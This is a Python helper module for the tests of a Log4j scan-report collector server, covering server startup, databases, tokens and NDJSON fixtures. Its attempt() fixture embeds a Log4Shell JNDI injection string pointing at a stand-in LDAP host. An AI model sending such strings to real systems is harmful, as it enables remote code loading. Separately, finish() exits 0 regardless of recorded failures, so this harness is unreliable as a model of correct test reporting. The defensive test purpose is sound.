"""server_common.py - helpers for the log4scan-server tests (python3 stdlib).

Starts the collector ($L4S_SERVER, the sanitizer build) on 127.0.0.1 with a
free port, creates tokens and users through its CLI, builds NDJSON reports in
the agent's format, and provides the two storage backends: a SQLite file, or
a fresh database in the PostgreSQL cluster of $L4S_PG_URL (started with
scripts/pg-cluster.sh when the variable is not set).
"""
import atexit
import hashlib
import http.client
import json
import os
import re
import signal
import subprocess
import sys
import time
import uuid

TOP = os.environ.get("TOP") or os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SERVER = os.environ.get("L4S_SERVER") or os.path.join(TOP, "build/san/log4scan-server")
OUT = os.environ.get("OUT") or "/tmp/l4s-server-test"
os.makedirs(OUT, exist_ok=True)

failures = 0


def ok(name):
    print("ok " + name, flush=True)


def not_ok(name, why):
    global failures
    failures += 1
    print("not ok %s - %s" % (name, str(why).replace("\n", " ")[:400]), flush=True)


def check(name, cond, why=""):
    if cond:
        ok(name)
    else:
        not_ok(name, why or "condition false")
    return cond


def check_eq(name, got, want):
    return check(name, got == want, "got %r, want %r" % (got, want))


# ---------------------------------------------------------------- PostgreSQL

_pg_base = None


def pg_base_url():
    """URL of a running cluster's maintenance DB, or raises."""
    global _pg_base
    if _pg_base:
        return _pg_base
    url = os.environ.get("L4S_PG_URL")
    if not url:
        d = os.path.join(OUT, "pg")
        p = subprocess.run(["sh", os.path.join(TOP, "scripts/pg-cluster.sh"), "start", d],
                           capture_output=True, text=True)
        if p.returncode != 0:
            raise RuntimeError("cannot start PostgreSQL: " + (p.stderr or p.stdout).strip()[-300:])
        url = p.stdout.strip().splitlines()[-1]
        atexit.register(lambda: subprocess.run(["sh", os.path.join(TOP, "scripts/pg-cluster.sh"), "stop", d],
                                               capture_output=True))
    _pg_base = url
    return url


def psql(url, sql):
    p = subprocess.run(["psql", "-X", "-q", "-t", "-A", "-v", "ON_ERROR_STOP=1", url, "-c", sql],
                       capture_output=True, text=True, timeout=60)
    if p.returncode != 0:
        raise RuntimeError("psql: " + p.stderr.strip())
    return p.stdout.strip()


def new_db(kind, name):
    """A fresh, empty database URL for backend kind ('sqlite' or 'pg')."""
    if kind == "sqlite":
        path = os.path.join(OUT, name + ".db")
        for suffix in ("", "-wal", "-shm"):
            if os.path.exists(path + suffix):
                os.unlink(path + suffix)
        return path
    base = pg_base_url()
    dbname = "t_" + re.sub(r"[^a-z0-9_]", "_", name.lower()) + "_" + uuid.uuid4().hex[:8]
    psql(base, "CREATE DATABASE " + dbname)
    return re.sub(r"/[^/?]*(\?.*)?$", "/" + dbname, base)


def db_sql(url, sql):
    """Run SQL directly against the server's database (test set-up only)."""
    if url.startswith("postgres"):
        return psql(url, sql)
    p = subprocess.run(["sqlite3", url, sql], capture_output=True, text=True, timeout=60)
    if p.returncode != 0:
        raise RuntimeError("sqlite3: " + p.stderr.strip())
    return p.stdout.strip()


# ---------------------------------------------------------------- the server

BROWSER_DIR = os.path.join(TOP, "tests/browser")


def browser_ready(prefix=""):
    """Debian's chromium and playwright-core (npm ci in tests/browser) for
    the browser tests: True when both are there, else a failed check."""
    import shutil
    chromium = os.environ.get("CHROMIUM", "/usr/bin/chromium")
    if not check(prefix + "chromium-installed", shutil.which(chromium) or os.path.exists(chromium),
                 "install Debian's chromium (scripts/install-deps.sh)"):
        return False
    if not os.path.isdir(os.path.join(BROWSER_DIR, "node_modules", "playwright-core")):
        p = subprocess.run(["npm", "ci", "--no-audit", "--no-fund"], cwd=BROWSER_DIR, capture_output=True, text=True)
        if p.returncode != 0:
            not_ok(prefix + "playwright-core-installed", p.stderr[-300:])
            return False
    ok(prefix + "playwright-core-installed")
    return True


def cli(db, *args, stdin=None):
    p = subprocess.run([SERVER, *args, "--db", db], input=stdin, capture_output=True, text=True, timeout=120)
    return p


def make_token(db, name, role="agent"):
    p = cli(db, "token", "create", "--name", name, "--role", role)
    if p.returncode != 0:
        raise RuntimeError("token create: " + p.stderr)
    return p.stdout.strip()


def make_user(db, name, password):
    p = cli(db, "user", "add", name, stdin=password + "\n")
    if p.returncode != 0:
        raise RuntimeError("user add: " + p.stderr)


class Server:
    def __init__(self, db, *args, name="server", binary=None):
        self.db = db
        self.log_path = os.path.join(OUT, name + ".log")
        self.log = open(self.log_path, "w")
        self.proc = subprocess.Popen([binary or SERVER, "--db", db, "--listen", "127.0.0.1:0", *args],
                                     stdout=self.log, stderr=self.log)
        self.port = None
        deadline = time.time() + 60
        while time.time() < deadline:
            with open(self.log_path) as f:
                m = re.search(r"listening on https?://127\.0\.0\.1:(\d+)", f.read())
            if m:
                self.port = int(m.group(1))
                break
            if self.proc.poll() is not None:
                break
            time.sleep(0.05)
        if not self.port:
            raise RuntimeError("server did not start: " + open(self.log_path).read()[-500:])

    def request(self, method, path, body=None, headers=None, timeout=60):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout)
        try:
            c.request(method, path, body=body, headers=headers or {})
            r = c.getresponse()
            data = r.read()
            return r.status, dict((k.lower(), v) for k, v in r.getheaders()), data
        finally:
            c.close()

    def get(self, path, token=None, cookie=None):
        h = {}
        if token:
            h["Authorization"] = "Bearer " + token
        if cookie:
            h["Cookie"] = cookie
        return self.request("GET", path, headers=h)

    def get_json(self, path, token=None, cookie=None):
        st, h, data = self.get(path, token, cookie)
        if st != 200:
            raise RuntimeError("GET %s: %d %s" % (path, st, data[:200]))
        return json.loads(data)

    def submit(self, token, body):
        if isinstance(body, str):
            body = body.encode()
        st, h, data = self.request("POST", "/api/v1/reports", body=body,
                                   headers={"Authorization": "Bearer " + token,
                                            "Content-Type": "application/x-ndjson"})
        try:
            js = json.loads(data)
        except ValueError:
            js = None
        return st, js

    def alive(self):
        return self.proc.poll() is None

    def stop(self):
        """SIGTERM; returns the exit status (0 = clean, no sanitizer report)."""
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=60)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.log.close()
        return self.proc.returncode

    def kill9(self):
        self.proc.send_signal(signal.SIGKILL)
        self.proc.wait()
        self.log.close()

    def log_text(self):
        with open(self.log_path) as f:
            return f.read()


# ---------------------------------------------------------------- reports

def mid(n):
    return "%032x" % (0xabc000 + n)


def sha(n):
    return "%064x" % (0x5a5a000 + n)


def envelope(machine_id=None, hostname="web1", command="scan", created="2026-11-27T21:00:00Z",
             report_id=None, tags=("prod",), ips=("10.0.0.5",)):
    host = {"hostname": hostname, "os": "Debian GNU/Linux 12 (bookworm)", "kernel": "6.1.0",
            "ips": list(ips), "tags": list(tags)}
    if machine_id:
        host["machine_id"] = machine_id
    return {"kind": "report", "report_id": report_id or str(uuid.uuid4()), "created": created,
            "agent_version": "0.1.0", "command": command, "host": host}


def finding(path, version="2.14.1", status="vulnerable", cves=("CVE-2021-44228",), sha256=None,
            component="log4j-core", pid=None):
    f = {"kind": "finding", "path": path, "component": component, "version": version,
         "version_source": "pom.properties", "status": status, "cves": list(cves),
         "severity": "critical" if status == "vulnerable" else "none",
         "fixed_in": "2.17.1" if status != "safe" else None, "evidence": ["JndiLookup.class"],
         "sha256": sha256 or hashlib.sha256(path.encode()).hexdigest()}
    if pid is not None:
        f["pid"] = pid
    return f


def process(pid=1234, status="vulnerable", ports=(8080,), restart=False):
    return {"kind": "process", "pid": pid, "user": "tomcat", "command": "org.apache.catalina.startup.Bootstrap",
            "start_time": "2026-11-27T20:00:00Z", "container": None,
            "listening": [{"proto": "tcp", "addr": "0.0.0.0", "port": p} for p in ports],
            "jars": ["/opt/app/lib/log4j-core-2.14.1.jar"], "status": status, "restart_required": restart,
            "mitigations": []}


def attempt(line=12, host="203.0.113.7", path="/var/log/nginx/access.log"):
    return {"kind": "attempt", "path": path, "line": line, "offset": line * 100,
            "timestamp": "2021-12-10T10:00:00Z", "raw": "${jndi:ldap://%s:1389/a}" % host,
            "decoded": "jndi:ldap://%s:1389/a" % host, "protocol": "ldap", "host": host, "port": 1389,
            "client": "198.51.100.4", "exfil": []}


def report(env, records, summary=True):
    lines = [env] + list(records)
    if summary:
        counts = {"vulnerable": 0, "mitigated": 0, "safe": 0}
        for r in records:
            if r.get("kind") == "finding":
                counts[r["status"]] += 1
        lines.append({"kind": "summary", "files": 100, "archives": 10, "bytes": 1000, "findings": counts,
                      "errors": 0, "seconds": 0.1, "skipped": []})
    return "".join(json.dumps(x) + "\n" for x in lines)


def finish():
    sys.exit(0)
